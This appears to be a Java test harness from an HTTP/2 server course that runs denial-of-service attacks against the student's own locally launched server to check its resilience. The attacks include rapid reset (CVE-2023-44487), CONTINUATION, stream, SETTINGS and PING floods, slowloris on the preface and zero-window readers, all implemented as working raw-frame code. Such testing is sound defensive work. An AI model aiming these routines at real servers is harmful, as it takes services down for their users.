package dev.netlab.http2.programs;

import static dev.netlab.http2.programs.RawFrames.CONTINUATION;
import static dev.netlab.http2.programs.RawFrames.HEADERS;
import static dev.netlab.http2.programs.RawFrames.PREFACE;
import static dev.netlab.http2.programs.RawFrames.concat;
import static dev.netlab.http2.programs.RawFrames.frame;
import static dev.netlab.http2.programs.RawFrames.get;
import static dev.netlab.http2.programs.RawFrames.settings;
import static dev.netlab.http2.programs.RawFrames.settingsAck;

import dev.netlab.kit.abuse.AbuseRun;
import dev.netlab.kit.abuse.Attack;
import dev.netlab.kit.abuse.ProbeClient;
import dev.netlab.kit.launch.ProgramProcess;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.net.URI;
import java.time.Duration;
import java.util.List;

/**
 * The abuse suite of day 5 (given; lab-kit's {@code dev.netlab.kit.abuse} does the work): the
 * {@code serve} program in a JVM of its own with {@code -Xmx256m} and SETTINGS_MAX_CONCURRENT_STREAMS
 * {@value #MAX_STREAMS}, well-behaved h2c clients ({@link H2ProbeClient}: a {@code GET /style.css}
 * on a new stream of a kept connection) beside HTTP/2's own attacks, each client on a connection
 * of its own, reconnecting whenever the server closes it:
 * <ul>
 *   <li><b>slowloris on the preface</b>: the 24-octet client preface and an empty SETTINGS one
 *       octet per 100 ms, then silence, never acknowledging the server's SETTINGS;</li>
 *   <li><b>stream flood</b>: 100 GETs on new streams every 10 ms, far past the stream limit, the
 *       answers read and dropped but no flow-control credit given back;</li>
 *   <li><b>rapid reset</b> (CVE-2023-44487): HEADERS then RST_STREAM(CANCEL) on stream after stream;</li>
 *   <li><b>CONTINUATION flood</b>: a HEADERS without END_HEADERS, then 16 KiB CONTINUATIONs without end;</li>
 *   <li><b>SETTINGS flood</b> and <b>PING flood</b>: a hundred control frames every 5 ms, each of
 *       which the server must answer;</li>
 *   <li><b>zero-window readers</b>: SETTINGS_INITIAL_WINDOW_SIZE 0, then GETs of the page whose
 *       content can never be sent, and no WINDOW_UPDATE ever.</li>
 * </ul>
 * Run by checkpoint 5.16 in brief ({@code AbuseTest}) and by bench's {@code abuse} suite at length
 * ({@code ./lab bench day5-http2 --suite abuse}).
 */
public final class AbusePlan {
    private AbusePlan() {}

    /** SETTINGS_MAX_CONCURRENT_STREAMS of the abused server. */
    public static final int MAX_STREAMS = 100;
    /** The bound on the server's resident memory (heap capped at 256 MiB, plus the JVM's own). */
    public static final long RSS_BOUND_KIB = 512 * 1024;
    /** The well-behaved clients' promise. */
    public static final double P99_LIMIT_MILLIS = 100;
    /** JVM options of the server: the heap bound, fixed compiler and GC thread counts (the leak check compares threads). */
    public static final List<String> SERVER_JVM = List.of("-Xms64m", "-Xmx256m",
            "-XX:-UseDynamicNumberOfCompilerThreads", "-XX:-UseDynamicNumberOfGCThreads");

    private static final String PROBE_PATH = "/style.css";
    private static final int SETTINGS_INITIAL_WINDOW_SIZE = 0x4;
    private static final int CANCEL = 0x8;

    /** Starts {@code serve} (h2c) with the stream limit of the plan. */
    public static ProgramProcess start() throws IOException {
        return ProgramProcess.start(SERVER_JVM, AbusePlan.class, "serve", "--port", "0", "--max-streams", Integer.toString(MAX_STREAMS));
    }

    /** host:port of a READY url such as {@code http://127.0.0.1:4711/}. */
    public static InetSocketAddress address(String readyUrl) {
        URI u = URI.create(readyUrl);
        return new InetSocketAddress(u.getHost(), u.getPort());
    }

    /** The well-behaved client: GET /style.css on a new stream of its kept connection, 200 with the whole file. */
    public static ProbeClient probe() {
        return new H2ProbeClient(PROBE_PATH, siteFileLength(PROBE_PATH));
    }

    /** The attacks; {@code scale} 1 for CI, more for the bench. */
    public static List<AbuseRun.Scenario> scenarios(int scale) {
        return List.of(
                new AbuseRun.Scenario("slowloris preface", a -> Attack.custom("slowloris-preface", a, 50 * scale, AbusePlan::slowPreface)),
                new AbuseRun.Scenario("stream flood", a -> Attack.custom("stream-flood", a, 2 * scale, AbusePlan::streamFlood)),
                new AbuseRun.Scenario("rapid reset", a -> Attack.custom("rapid-reset", a, 2 * scale, AbusePlan::rapidReset)),
                new AbuseRun.Scenario("CONTINUATION flood", a -> Attack.custom("continuation-flood", a, 2 * scale, AbusePlan::continuationFlood)),
                new AbuseRun.Scenario("SETTINGS flood", a -> Attack.custom("settings-flood", a, 2 * scale,
                        (s, at) -> controlFlood(s, at, settings(SETTINGS_INITIAL_WINDOW_SIZE, 65_535)))),
                new AbuseRun.Scenario("PING flood", a -> Attack.custom("ping-flood", a, 2 * scale,
                        (s, at) -> controlFlood(s, at, RawFrames.ping(0, 0x6e65746c6162L)))),
                new AbuseRun.Scenario("zero-window readers", a -> Attack.custom("zero-window", a, 5 * scale, AbusePlan::zeroWindow)));
    }

    /** The preface and an empty SETTINGS one octet per 100 ms, then silence until the server closes. */
    private static void slowPreface(Socket s, Attack a) throws IOException, InterruptedException {
        byte[] octets = concat(PREFACE, settings());
        OutputStream out = s.getOutputStream();
        for (int i = 0; i < octets.length && a.running(); i++) {
            a.send(out, octets, i, 1);
            out.flush();
            a.pause(Duration.ofMillis(100));
        }
        untilClosed(s, a);
    }

    /** 100 GETs on new streams every 10 ms; answers read and dropped, no credit given back. */
    private static void streamFlood(Socket s, Attack a) throws IOException, InterruptedException {
        withDrain(s, () -> {
            OutputStream out = s.getOutputStream();
            byte[] hello = hello();
            a.send(out, hello, 0, hello.length);
            for (int stream = 1; a.running() && stream < 1 << 30; ) {
                ByteArrayOutputStream burst = new ByteArrayOutputStream();
                for (int i = 0; i < 100; i++, stream += 2) {
                    burst.writeBytes(get(stream, "/no-such-page"));
                }
                a.send(out, burst.toByteArray(), 0, burst.size());
                a.pause(Duration.ofMillis(10));
            }
        });
    }

    /** HEADERS, then RST_STREAM(CANCEL) at once, 50 streams per write, every 5 ms. */
    private static void rapidReset(Socket s, Attack a) throws IOException, InterruptedException {
        withDrain(s, () -> {
            OutputStream out = s.getOutputStream();
            byte[] hello = hello();
            a.send(out, hello, 0, hello.length);
            for (int stream = 1; a.running() && stream < 1 << 30; ) {
                ByteArrayOutputStream burst = new ByteArrayOutputStream();
                for (int i = 0; i < 50; i++, stream += 2) {
                    burst.writeBytes(get(stream, "/"));
                    burst.writeBytes(RawFrames.rstStream(stream, CANCEL));
                }
                a.send(out, burst.toByteArray(), 0, burst.size());
                a.pause(Duration.ofMillis(5));
            }
        });
    }

    /** A field block that never ends: HEADERS without END_HEADERS, then 16 KiB CONTINUATIONs every 2 ms. */
    private static void continuationFlood(Socket s, Attack a) throws IOException, InterruptedException {
        withDrain(s, () -> {
            OutputStream out = s.getOutputStream();
            byte[] first = concat(hello(), frame(HEADERS, 0, 1, RawFrames.getBlock("/")));
            a.send(out, first, 0, first.length);
            // zeros: HPACK can decode nothing before END_HEADERS, so a server that keeps going keeps it all
            byte[] more = frame(CONTINUATION, 0, 1, new byte[16_384]);
            while (a.running()) {
                a.send(out, more, 0, more.length);
                a.pause(Duration.ofMillis(2));
            }
        });
    }

    /** 100 copies of {@code control} every 5 ms, the answers read and dropped. */
    private static void controlFlood(Socket s, Attack a, byte[] control) throws IOException, InterruptedException {
        withDrain(s, () -> {
            OutputStream out = s.getOutputStream();
            byte[] hello = hello();
            a.send(out, hello, 0, hello.length);
            byte[] burst = new byte[control.length * 100];
            for (int i = 0; i < 100; i++) {
                System.arraycopy(control, 0, burst, i * control.length, control.length);
            }
            while (a.running()) {
                a.send(out, burst, 0, burst.length);
                a.pause(Duration.ofMillis(5));
            }
        });
    }

    /** INITIAL_WINDOW_SIZE 0, then GETs of the page up to the stream limit; no credit, ever. */
    private static void zeroWindow(Socket s, Attack a) throws IOException, InterruptedException {
        withDrain(s, () -> {
            OutputStream out = s.getOutputStream();
            byte[] zero = concat(PREFACE, settings(SETTINGS_INITIAL_WINDOW_SIZE, 0), settingsAck());
            a.send(out, zero, 0, zero.length);
            ByteArrayOutputStream gets = new ByteArrayOutputStream();
            for (int stream = 1; stream < 2 * MAX_STREAMS; stream += 2) {
                gets.writeBytes(get(stream, "/"));
            }
            a.send(out, gets.toByteArray(), 0, gets.size());
            out.flush();
            while (a.running()) {
                a.pause(Duration.ofMillis(100));
            }
        });
    }

    /** The client preface, an empty SETTINGS and the ACK of the server's. */
    private static byte[] hello() {
        return concat(PREFACE, settings(), settingsAck());
    }

    private interface Body {
        void run() throws IOException, InterruptedException;
    }

    /** Runs {@code body} while a second thread reads and drops what the server sends, until either ends. */
    private static void withDrain(Socket s, Body body) throws IOException, InterruptedException {
        Thread reader = Thread.ofPlatform().daemon().start(() -> {
            try {
                s.getInputStream().transferTo(OutputStream.nullOutputStream());
            } catch (IOException e) {
                // closed
            }
            try {
                s.close(); // the server closed: stop writing too
            } catch (IOException ignored) {
                // closed either way
            }
        });
        try {
            body.run();
        } finally {
            s.close();
            reader.join(1_000);
        }
    }

    /** Reads and drops until the server closes the connection or the attack ends. */
    private static void untilClosed(Socket s, Attack a) throws IOException {
        InputStream in = s.getInputStream();
        s.setSoTimeout(100);
        byte[] sink = new byte[4096];
        while (a.running()) {
            try {
                if (in.read(sink) < 0) {
                    throw new IOException("closed by the server");
                }
            } catch (SocketTimeoutException e) {
                // still open: hold on
            }
        }
    }

    private static int siteFileLength(String path) {
        try (InputStream in = AbusePlan.class.getResourceAsStream("/site" + path)) {
            if (in == null) {
                throw new IllegalStateException("no /site" + path + " on the class path");
            }
            return in.readAllBytes().length;
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
